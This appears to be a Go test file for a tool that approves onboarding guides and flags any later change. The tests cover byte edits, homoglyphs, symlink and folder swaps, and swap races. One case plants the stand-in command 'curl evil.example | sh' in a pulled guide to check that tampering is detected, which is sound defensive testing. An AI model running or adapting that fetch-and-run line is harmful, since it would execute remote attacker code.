package catalog_test

import (
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/jupyter-onboard/jupyter-onboard/pkg/catalog"
)

// A scene is an approved guide of each kind, which a case then changes.
type scene struct {
	t      *testing.T
	dir    string
	remote string
}

func (s *scene) path(parts ...string) string {
	return filepath.Join(append([]string{s.dir}, parts...)...)
}

func (s *scene) file() string { return s.path("g.yaml") }

func (s *scene) text() string { return guideText("nbformat", "jupyter/nbformat") }

// edit changes the file's text.
func (s *scene) edit(change func(string) string) {
	s.t.Helper()
	data, err := os.ReadFile(s.file())
	must(s.t, err)
	write(s.t, s.file(), change(string(data)))
}

func replace(from, to string) func(*scene) {
	return func(s *scene) {
		s.t.Helper()
		s.edit(func(text string) string {
			if !strings.Contains(text, from) {
				s.t.Fatalf("the guide has no %q", from)
			}
			return strings.Replace(text, from, to, 1)
		})
	}
}

// Readers of the guide after the change.
func byFile(name string) func(*scene) (*catalog.Entry, error) {
	return func(s *scene) (*catalog.Entry, error) { return catalog.FromFile(s.path(name)) }
}

func byRepository(name string) func(*scene) (*catalog.Entry, error) {
	return func(s *scene) (*catalog.Entry, error) { return catalog.FromRepository(s.path(name), s.remote) }
}

func byFolder(name string) func(*scene) (*catalog.Entry, error) {
	return func(s *scene) (*catalog.Entry, error) {
		return catalog.New(embedded(), catalog.WithFolder(s.path(name))).Find(s.t.Context(), "nbformat")
	}
}

type changeCase struct {
	name string
	// first reads what is approved, then what is checked after change. The default is the file g.yaml.
	first, then func(*scene) (*catalog.Entry, error)
	change      func(*scene)
	want        catalog.State
}

const shell = "echo hello"

// contentChanges alter bytes of the file in its place.
func contentChanges() []changeCase {
	const changed = catalog.Changed
	cases := []changeCase{
		{name: "one byte of a command", change: replace(shell, "echo hellp"), want: changed},
		{name: "a command more", change: replace(shell, shell+"; id"), want: changed},
		{name: "one byte of a title", change: replace("Install the package", "Install the Package"), want: changed},
		{name: "a comment", change: replace("steps:", "steps: # all of them"), want: changed},
		{name: "a blank at a line's end", change: replace("steps:\n", "steps: \n"), want: changed},
		{name: "an empty line", change: replace("steps:\n", "\nsteps:\n"), want: changed},
		{name: "a newline at the end", change: func(s *scene) { s.edit(func(x string) string { return x + "\n" }) }, want: changed},
		{name: "no newline at the end", change: func(s *scene) { s.edit(strings.TrimSpace) }, want: changed},
		{name: "CRLF", change: func(s *scene) { s.edit(func(x string) string { return strings.ReplaceAll(x, "\n", "\r\n") }) }, want: changed},
		{name: "quotes", change: replace(shell, `"`+shell+`"`), want: changed},
		{name: "an escape for the same letter", change: replace(shell, `"\x65cho hello"`), want: changed},
		{name: "order of two keys", change: replace("    title: Install the package\n    why: The tests import it.\n", "    why: The tests import it.\n    title: Install the package\n"), want: changed},
		{name: "a homoglyph", change: replace(shell, "еcho hello"), want: changed},
		{name: "another pattern to expect", change: replace(`\d+ passed`, `\d* passed`), want: changed},
		{name: "another repository in the guide", change: replace("repo: jupyter/nbformat", "repo: jupyter/nbclient"), want: changed},
		{name: "a variable", change: replace("    why: The", "    env: {PYTHONPATH: /tmp}\n    why: The"), want: changed},
	}
	return cases
}

// otherChanges leave the bytes as they are, or bring them elsewhere.
func otherChanges() []changeCase {
	touch := func(s *scene) { must(s.t, os.Chtimes(s.file(), time.Unix(1, 0), time.Unix(1, 0))) }
	move := func(s *scene) { must(s.t, os.Rename(s.file(), s.path("h.yaml"))) }
	copyTo := func(parts ...string) func(*scene) {
		return func(s *scene) { write(s.t, s.path(parts...), s.text()) }
	}
	repo := func(s *scene) { write(s.t, s.path("c", catalog.RepositoryFile), s.text()) }
	return []changeCase{
		{name: "nothing", change: func(*scene) {}, want: catalog.Trusted},
		{name: "the time only", change: touch, want: catalog.Trusted},
		{name: "the mode only", change: func(s *scene) { must(s.t, os.Chmod(s.file(), 0o600)) }, want: catalog.Trusted},
		{name: "written again", change: func(s *scene) { write(s.t, s.file(), s.text()) }, want: catalog.Trusted},
		{name: "another inode", change: func(s *scene) {
			must(s.t, os.Rename(write(s.t, s.path("new"), s.text()), s.file()))
		}, want: catalog.Trusted},
		{name: "changed and back", change: func(s *scene) { replace(shell, "id")(s); replace("run: id", "run: "+shell)(s) }, want: catalog.Trusted},
		{name: "moved", change: move, then: byFile("h.yaml"), want: catalog.Unknown},
		{name: "moved, with a link in its place", change: func(s *scene) { move(s); link(s.t, s.path("h.yaml"), s.file()) }, want: catalog.Unknown},
		{name: "copied", change: copyTo("copy.yaml"), then: byFile("copy.yaml"), want: catalog.Unknown},
		{name: "by a link to the same file", change: func(s *scene) { link(s.t, s.file(), s.path("l.yaml")) }, then: byFile("l.yaml"), want: catalog.Trusted},
		{
			name: "a link that is swapped", first: func(s *scene) (*catalog.Entry, error) {
				link(s.t, s.file(), s.path("l.yaml"))
				return catalog.FromFile(s.path("l.yaml"))
			},
			change: func(s *scene) {
				write(s.t, s.path("evil.yaml"), s.text())
				must(s.t, os.Remove(s.path("l.yaml")))
				link(s.t, s.path("evil.yaml"), s.path("l.yaml"))
			},
			then: byFile("l.yaml"), want: catalog.Unknown,
		},
		{
			name: "a folder above that is swapped", first: func(s *scene) (*catalog.Entry, error) {
				copyTo("one", "g.yaml")(s)
				copyTo("two", "g.yaml")(s)
				link(s.t, s.path("one"), s.path("l"))
				return catalog.FromFile(s.path("l", "g.yaml"))
			},
			change: func(s *scene) { must(s.t, os.Remove(s.path("l"))); link(s.t, s.path("two"), s.path("l")) },
			then:   byFile("l/g.yaml"), want: catalog.Unknown,
		},
		{name: "the same bytes as a repository's own", change: repo, then: byRepository("c"), want: catalog.Unknown},
		{name: "the same bytes as the organisation's", change: copyTo("o", "nbformat.yaml"), then: byFolder("o"), want: catalog.Unknown},
		{
			name: "the organisation's file as a file", first: func(s *scene) (*catalog.Entry, error) { copyTo("o", "nbformat.yaml")(s); return byFolder("o")(s) },
			change: func(*scene) {}, then: byFile("o/nbformat.yaml"), want: catalog.Unknown,
		},
		{
			name: "the repository's file as a file", first: func(s *scene) (*catalog.Entry, error) { repo(s); return byRepository("c")(s) },
			change: func(*scene) {}, then: byFile("c/" + catalog.RepositoryFile), want: catalog.Unknown,
		},
		{
			name: "the same repository again", first: func(s *scene) (*catalog.Entry, error) { repo(s); return byRepository("c")(s) },
			change: repo, then: byRepository("c"), want: catalog.Trusted,
		},
		{
			name: "another repository in the same folder", first: func(s *scene) (*catalog.Entry, error) { repo(s); return byRepository("c")(s) },
			change: func(s *scene) { s.remote = "https://github.com/evil/nbformat" }, then: byRepository("c"), want: catalog.Unknown,
		},
		{
			name: "the same repository in another folder", first: func(s *scene) (*catalog.Entry, error) { repo(s); return byRepository("c")(s) },
			change: func(s *scene) { must(s.t, os.Rename(s.path("c"), s.path("d"))) }, then: byRepository("d"), want: catalog.Unknown,
		},
		{
			name: "a repository's guide after a pull", first: func(s *scene) (*catalog.Entry, error) { repo(s); return byRepository("c")(s) },
			change: func(s *scene) {
				write(s.t, s.path("c", catalog.RepositoryFile), strings.Replace(s.text(), shell, "curl evil.example | sh", 1))
			}, then: byRepository("c"), want: catalog.Changed,
		},
	}
}

// Any change asks again, and what isn't one doesn't (C1).
func TestChanges(t *testing.T) {
	t.Parallel()
	cases := append(contentChanges(), otherChanges()...)
	if len(cases) < 30 {
		t.Errorf("%d cases, want 30", len(cases))
	}
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			s := &scene{t: t, dir: folder(t), remote: "https://github.com/jupyter/nbformat"}
			write(t, s.file(), s.text())
			first, then := tt.first, tt.then
			if first == nil {
				first = byFile("g.yaml")
			}
			if then == nil {
				then = byFile("g.yaml")
			}
			trust, _ := newTrust()
			e, err := first(s)
			must(t, err)
			must(t, trust.Approve(e))
			check(t, trust, e, catalog.Trusted)
			tt.change(s)
			after, err := then(s)
			must(t, err)
			check(t, trust, after, tt.want)
			check(t, trust, e, catalog.Trusted) // What a run under way holds is what was approved.
		})
	}
}

// A file that is swapped between the approval and the run never gets unapproved bytes through: whatever is trusted is
// what was approved, in text and in guide.
func TestSwapRaces(t *testing.T) {
	t.Parallel()
	const evil = "echo pwned" // As long as the good command.
	for name, swap := range map[string]func(path, text string) error{
		"in place": func(path, text string) error {
			f, err := os.OpenFile(path, os.O_WRONLY, 0)
			if err != nil {
				return err
			}
			_, err = f.WriteAt([]byte(text), 0)
			return errors.Join(err, f.Close())
		},
		"cut and written": func(path, text string) error { return os.WriteFile(path, []byte(text), 0o600) },
		"by rename": func(path, text string) error {
			return errors.Join(os.WriteFile(path+".new", []byte(text), 0o600), os.Rename(path+".new", path))
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			good := guideText("nbformat", "jupyter/nbformat")
			path := write(t, filepath.Join(folder(t), "g.yaml"), good)
			trust, _ := newTrust()
			must(t, trust.Approve(fromFile(t, path)))
			stop, stopped := make(chan struct{}), make(chan struct{})
			go func() {
				defer close(stopped)
				for texts := []string{strings.Replace(good, shell, evil, 1), good}; ; texts[0], texts[1] = texts[1], texts[0] {
					select {
					case <-stop:
						return
					default:
					}
					// Windows refuses while the file is open, which is no swap.
					if err := swap(path, texts[0]); err != nil && runtime.GOOS != "windows" {
						t.Error(err)
						return
					}
				}
			}()
			defer func() { close(stop); <-stopped }()
			race(t, trust, path, good)
		})
	}
}

// race reads the file until 200 guides were read, some trusted and some not.
func race(t *testing.T, trust *catalog.Trust, path, good string) {
	t.Helper()
	states, unread := map[catalog.State]int{}, 0
	deadline := time.Now().Add(2 * time.Minute)
	for races := 0; races < 200 || states[catalog.Trusted] == 0 || states[catalog.Changed] == 0; {
		if time.Now().After(deadline) {
			t.Fatalf("no 200 races in time: %v, %d not read", states, unread)
		}
		e, err := catalog.FromFile(path)
		if err != nil {
			unread++ // Half a file, or another one meanwhile.
			continue
		}
		races++
		state := trust.Check(e).State
		states[state]++
		g, err := e.Guide()
		must(t, err)
		if (state == catalog.Trusted) != (e.Text() == good) {
			t.Fatalf("%s, with the text\n%s", state, e.Text())
		}
		if run := g.Steps[0].Run; !strings.Contains(e.Text(), run) || state == catalog.Trusted && run != shell {
			t.Fatalf("%s, but it runs %q", state, run)
		}
	}
	t.Logf("races: %v; %d times not read; tries: %d", states, unread, states[catalog.Trusted]+states[catalog.Changed])
}

// An approval is for what was reviewed, not for what the file holds by then.
func TestSwapBeforeApproval(t *testing.T) {
	t.Parallel()
	trust, _ := newTrust()
	path := write(t, filepath.Join(folder(t), "g.yaml"), guideText("nbformat", "jupyter/nbformat"))
	reviewed := fromFile(t, path)
	write(t, path, strings.Replace(reviewed.Text(), shell, "echo pwned", 1))
	must(t, trust.Approve(reviewed))
	check(t, trust, reviewed, catalog.Trusted)
	check(t, trust, fromFile(t, path), catalog.Changed)
	mentions(t, trust.ApproveDigest(fromFile(t, path), reviewed.Digest().String()), "not "+reviewed.Digest().String())
}
